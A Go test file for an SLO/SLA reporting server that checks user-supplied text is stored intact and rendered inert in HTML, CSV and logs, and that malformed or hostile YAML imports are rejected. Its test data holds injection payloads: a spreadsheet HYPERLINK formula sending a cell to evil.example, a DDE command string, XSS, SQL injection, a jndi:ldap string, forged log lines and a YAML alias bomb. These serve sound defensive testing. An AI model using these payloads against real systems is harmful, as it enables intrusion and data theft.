package server

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/hindcast/hindcast/graph/model"
	"github.com/hindcast/hindcast/slo"
)

// hostileTexts can be meant and shown, and are taken for something else by whoever
// puts them into HTML, SQL, PromQL, a spreadsheet or a line of a log without care.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, `＝1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3`, `<img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`,
	`{{.Secret}} ${jndi:ldap://a} %s %n`, `'); DROP TABLE objects;--`, `\'; DELETE FROM objects;`, `up{job="a"} or vector(1)) #`, `a" level=ERROR msg="forged`,
	`{"level":"ERROR","msg":"forged"}`, "𝒜da “quoted” – 移行 הַעֲבָרָה 🚚",
}

// lines is a log that may be written to by many.
type lines struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

func (l *lines) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.String()
}

// TestTextsOfPeopleComeBackAsTheyWereWritten: none is lost or altered, by either
// engine, and none is anything but text in a statement or in a log.
func TestTextsOfPeopleComeBackAsTheyWereWritten(t *testing.T) {
	for _, form := range []string{logText, logJSON} {
		t.Run(form, func(t *testing.T) {
			o, log := s1Options(t), &lines{}
			o.Logger = newLogger(log, form, "debug")
			specFile(t, o.Specs, "sla.yaml", dailySLA)
			s := runningWith(t, o)
			objective := s.measuring(t)
			for i, text := range hostileTexts {
				x, err := calendar{s}.SaveExclusion(t.Context(), model.ExclusionInput{
					Name: fmt.Sprint("x-", i), Title: text, Reason: text + "\n\tand " + text, Kind: slo.OtherExclusion,
					Scope: model.ScopeInput{Slos: []string{objective.Name}}, Start: badFrom.Add(time.Duration(i) * time.Minute), Length: time.Minute, By: text,
				})
				require.NoError(t, err)
				_, err = calendar{s}.DecideExclusion(t.Context(), model.ExclusionDecision{Name: x.Name, Approve: true, By: "Grace " + text, Note: text})
				require.NoError(t, err)
			}
			_, err := contracts{s}.Issue(t.Context(), model.IssueInput{Sla: "daily", Customer: "acme", Period: badDay, By: hostileTexts[0], Note: strings.Join(hostileTexts, "\n")})
			require.NoError(t, err)

			require.NoError(t, s.almanac.Load(t.Context()))
			for i, text := range hostileTexts {
				x, ok := s.exclusions.ByName(fmt.Sprint("x-", i))
				require.True(t, ok)
				require.Equal(t, []string{text, text + "\n\tand " + text, text, "Grace " + text, text}, []string{x.Title, x.Reason, x.Author, x.Approval.By, x.Approval.Note})
			}
			holdStatementToText(t, s)
			holdLogToLines(t, log.String(), form)
		})
	}
}

func holdStatementToText(t *testing.T, s *Server) {
	t.Helper()
	path := "/statements/daily/acme/" + badDay
	res, page := fetch(t, s, path+".html", "")
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.NotContains(t, page, "<img")
	require.NotContains(t, page, "<script")
	require.Contains(t, page, "&lt;img src=x onerror=alert(1)&gt;", "it is shown")
	_, sheet := fetch(t, s, path+".csv", "")
	rows, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
	require.NoError(t, err)
	found := 0
	for _, row := range rows {
		for _, cell := range row {
			require.NotRegexp(t, `^([=+@＝＋－＠\t\r\n]|-[^0-9]|-[0-9.]+[^0-9.])`, cell)
			for _, text := range hostileTexts {
				if strings.Contains(cell, text) {
					found++
				}
			}
		}
	}
	require.GreaterOrEqual(t, found, len(hostileTexts), "the sheet has them all")
}

// holdLogToLines refuses lines that a text made up, and characters that a terminal
// obeys.
func holdLogToLines(t *testing.T, log, form string) {
	t.Helper()
	said := 0
	scan := bufio.NewScanner(strings.NewReader(log))
	for scan.Scan() {
		line := scan.Text()
		require.NoError(t, slo.CheckLine(line))
		require.NotContains(t, line, `level=ERROR msg="forged`)
		if form == logJSON {
			var l struct{ Level, Msg string }
			require.NoError(t, json.Unmarshal([]byte(line), &l), line)
			require.NotEqual(t, "forged", l.Msg)
		} else {
			require.True(t, strings.HasPrefix(line, "time="), line)
		}
		if strings.Contains(line, "exclusion saved") {
			said++
		}
	}
	require.Equal(t, len(hostileTexts), said)
}

// TestHostileSpecificationsAreToldAndNotKept sends what fits into a request.
func TestHostileSpecificationsAreToldAndNotKept(t *testing.T) {
	s, _ := importing(t)
	slos := func(spec string) string {
		return "apiVersion: openslo/v1\nkind: SLO\nmetadata: {name: a}\nspec:\n  service: shop\n  indicator: {spec: {ratioMetric: {counter: true, good: {metricSource: {type: Prometheus, spec: {query: 'sum(a)'}}}, total: {metricSource: {type: Prometheus, spec: {query: 'sum(b)'}}}}}}\n  budgetingMethod: Occurrences\n" + spec
	}
	window, good := "  timeWindow: [{duration: 30d, isRolling: true}]\n", "  objectives: [{target: 0.99}]\n"
	const room = 60 << 10
	for name, c := range map[string]struct{ text, says string }{
		"brackets":           {strings.Repeat("[", room), "a.yaml:1:"},
		"braces":             {strings.Repeat("{a: ", room/4), "a.yaml:1:"},
		"a bomb of aliases":  {"a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + bomb(8), "a.yaml:"},
		"a target of NaN":    {slos(window + "  objectives: [{target: .nan}]\n"), ".nan"},
		"an endless target":  {slos(window + "  objectives: [{target: .inf}]\n"), ".inf"},
		"a target of words":  {slos(window + "  objectives: [{target: '1; DROP TABLE'}]\n"), "DROP TABLE"},
		"a key twice":        {slos(window + good + "  service: other\n"), "service"},
		"a window of aeons":  {slos("  timeWindow: [{duration: 9999999999999d, isRolling: true}]\n" + good), "9999999999999d"},
		"a window backwards": {slos("  timeWindow: [{duration: -30d, isRolling: true}]\n" + good), "-30d"},
		"a query that ends":  {strings.Replace(slos(window+good), "sum(a)", "sum(a", 1), "a.yaml:6:"},
		"a name of HTML":     {strings.Replace(slos(window+good), "name: a", "name: '<b>a'", 1), "<b>a"},
		"nothing":            {"", "nothing to import"},
		"spaces":             {strings.Repeat(" ", room), "nothing to import"},
	} {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			in := map[string]any{"input": map[string]any{"path": "a.yaml", "text": c.text, "by": "Ada"}}
			for _, mutation := range []string{"previewImport", "applyImport"} {
				answer := post(t, s, "mutation($input: ImportInput!) { "+mutation+"(input: $input) { problems { file line column message } } }", in)
				var a struct {
					Data map[string]struct {
						Problems []struct {
							File         string
							Line, Column int
							Message      string
						}
					}
				}
				require.NoError(t, json.Unmarshal([]byte(answer), &a))
				require.NotEmpty(t, a.Data[mutation].Problems, answer)
				p := a.Data[mutation].Problems[0]
				says := fmt.Sprintf("%s:%d:%d: %s", p.File, p.Line, p.Column, p.Message)
				require.Contains(t, says, c.says)
				require.NoError(t, slo.CheckLine(says))
			}
			runtime.ReadMemStats(&after)
			require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(256<<20), "of P7 in the hardening reference")
		})
	}
	d, err := s.imports.Document(t.Context(), "a.yaml")
	require.NoError(t, err)
	require.Nil(t, d)
}

// bomb nests lists of aliases of a0.
func bomb(levels int) string {
	var b strings.Builder
	for i := 1; i < levels; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 9), ","))
	}
	return b.String()
}
